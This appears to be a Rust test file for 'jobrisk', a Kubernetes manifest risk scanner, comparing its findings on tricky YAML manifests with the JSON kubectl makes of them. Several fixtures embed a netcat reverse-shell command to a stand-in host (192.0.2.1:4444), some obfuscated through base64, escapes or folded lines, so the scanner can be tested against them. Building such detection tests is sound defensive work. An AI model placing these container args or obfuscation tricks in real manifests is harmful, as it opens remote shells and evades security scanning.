//! The oracle: what jobrisk says about a manifest is what it says about the JSON that kubectl makes of it.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::command::{Folder, Output};

/// The pod's spec goes in at `POD`.
fn job(pod: &str) -> String {
    format!("apiVersion: batch/v1\nkind: Job\nmetadata: {{name: a}}\nspec: {{template: {{spec: {pod}}}}}\n")
}

fn manifests() -> Vec<String> {
    let mut manifests: Vec<String> = [
        // Booleans of YAML 1.1, and what only looks like one.
        "{hostNetwork: yes}",
        "{hostNetwork: y}",
        "{hostNetwork: ON}",
        "{hostNetwork: \"yes\"}",
        "{hostNetwork: !!bool \"yes\"}",
        "{hostNetwork: !!str true}",
        "{hostNetwork: ! true}",
        "{hostNetwork: yEs}",
        "{hostNetwork: off}",
        "{hostNetwork: ~}",
        // Duplicate keys.
        "{hostNetwork: false, hostNetwork: true}",
        "{hostNetwork: true, hostNetwork: false}",
        "{hostNetwork: true, hostNetwork: null}",
        // Merge keys, with an anchor in the place of use.
        "{x: &x {hostNetwork: true}, <<: *x, hostNetwork: false}",
        "{x: &x {hostNetwork: true}, hostNetwork: false, <<: *x}",
        "{x: &x {hostNetwork: true}, y: &y {hostNetwork: false}, <<: [*x, *y]}",
        "{x: &x {hostNetwork: true}, y: &y {<<: *x}, <<: [*y]}",
        "{x: &x {hostNetwork: true}, \"<<\": *x}",
        "{x: &x {hostNetwork: true}, !!merge <<: *x}",
        "{x: &x hostNetwork, *x : true}",
        // Scalars in commands: text, numbers, base64.
        "{containers: [{name: a, args: [nc, 192.0.2.1, '4444', -e, /bin/sh]}]}",
        "{containers: [{name: a, args: [nc, 192.0.2.1, 4444, -e, /bin/sh]}]}",
        "{containers: [{name: a, args: [!!binary bmM=, 192.0.2.1, '4444', -e, /bin/sh]}]}",
        "{containers: [{name: a, args: [nc, 192.0.2.1, !!str 4444, -e, /bin/sh]}]}",
        "{containers: [{name: a, args: [nc, 2001-01-01, 1_0, 0o17, .5, 1e999, -e, /bin/sh]}]}",
        "{containers: [{name: &n a, image: *n, args: [\"n\\x63\", \"192.0.2.1\", \"1\", \"-e\", \"/bin\\\n  /sh\"]}]}",
        "# comment\u{2028}    {hostNetwork: true}",
        "# comment\u{85}    {hostNetwork: true}",
    ]
    .into_iter()
    .map(job)
    .collect();
    let shell = "{containers: [{name: a, args: [nc, 192.0.2.1, '4444', -e, /bin/sh]}]}";
    let one = job(shell);
    manifests.extend([
        format!("\u{feff}{one}"),
        format!("# first\n---\n{one}--- # second\n{one}---\n\n---\n"),
        format!("{one}...\n"),
        one.replace('\n', "\r\n"),
        format!(
            "kind: List\napiVersion: v1\nitems:\n- {{kind: Job, apiVersion: batch/v1, metadata: {{name: b}}, \
             spec: {{template: {{spec: {shell}}}}}}}\n"
        ),
        format!("kind: JobList\napiVersion: batch/v1\nitems: [{{metadata: {{name: b}}, spec: {{template: {{spec: {shell}}}}}}}]\n"),
        "apiVersion: batch/v1\nkind: Job\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      \
         - name: a\n        command: [sh, -c]\n        args:\n        - |-\n          nc 192.0.2.1 4444 \\\n            -e /bin/sh\n        \
         - >\n          folded\n          text\n"
            .to_owned(),
        "{\"apiVersion\": \"batch/v1\", \"kind\": \"Job\", \"metadata\": {\"name\": \"a\"}, \"spec\": {\"template\": {\"spec\":\n \
         {\"hostNetwork\": false, \"hostNetwork\": true, \"x\": \"\\ud83d\\ude00\"}}}}\n"
            .to_owned(),
    ]);
    manifests
}

#[test]
fn verdicts_are_those_on_what_kubectl_sends() {
    let kubectl = kubectl();
    let folder = Folder::new();
    let mut hits = 0;
    for manifest in manifests() {
        folder.write("manifest.yaml", &manifest);
        let sent = Command::new(&kubectl)
            .args(["label", "--local", "--overwrite", "-f", "manifest.yaml", "a=b", "-o", "json"])
            .current_dir(folder.path(""))
            .env("KUBECONFIG", "/nonexistent")
            .env("KUBERC", "off")
            .output()
            .unwrap();
        assert!(sent.status.success(), "{manifest}\n{}", String::from_utf8_lossy(&sent.stderr));
        folder.write("sent.json", &sent.stdout);
        let ours = verdicts(&folder.scan(&["--format", "json", "manifest.yaml"]), &manifest);
        let theirs = verdicts(&folder.scan(&["--format", "json", "sent.json"]), &manifest);
        assert_eq!(ours, theirs, "{manifest}");
        hits += usize::from(ours.iter().any(|verdict| verdict["findingsTotal"] != 0));
    }
    assert!(hits > manifests().len() / 2, "the manifests have to have something to find");
}

/// What kubectl refuses is not read as something else.
#[test]
fn what_kubectl_refuses_is_an_error() {
    let kubectl = kubectl();
    let folder = Folder::new();
    for manifest in [
        "kind: Job\nx: {{ .Values.x }}\n",
        "kind: Job\nx: [\n",
        "kind: Job\nx: *unknown\n",
        "kind: Job\nx: !!int text\n",
        "kind: Job\nx: !!binary '%'\n",
        "kind: Job\n\tx: tab\n",
        "kind: Job\n: x\n",
        "%YAML 1.1\n---\nkind: Job\n",
    ] {
        folder.write("manifest.yaml", manifest);
        let theirs = Command::new(&kubectl)
            .args(["label", "--local", "-f", "manifest.yaml", "a=b", "-o", "json"])
            .current_dir(folder.path(""))
            .env("KUBECONFIG", "/nonexistent")
            .env("KUBERC", "off")
            .output()
            .unwrap();
        assert!(!theirs.status.success(), "{manifest}");
        assert_eq!(folder.scan(&["manifest.yaml"]).code, 2, "{manifest}");
    }
}

/// The workloads without their places.
fn verdicts(output: &Output, manifest: &str) -> Vec<Value> {
    assert!(output.code != 2, "{manifest}\n{output:?}");
    let mut workloads = output.json()["workloads"].as_array().unwrap().clone();
    for workload in &mut workloads {
        workload.as_object_mut().unwrap().remove("source");
        for finding in workload["findings"].as_array_mut().unwrap() {
            finding.as_object_mut().unwrap().retain(|key, _| key != "line" && key != "column");
        }
    }
    workloads
}

/// The kubectl of the control plane that the other tests use.
fn kubectl() -> PathBuf {
    let folder = std::env::var_os("KUBEBUILDER_ASSETS").map_or_else(
        || {
            let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/controlplane/build");
            let output = Command::new(script).output().unwrap();
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
            PathBuf::from(String::from_utf8(output.stdout).unwrap().trim_end())
        },
        PathBuf::from,
    );
    folder.join("kubectl")
}
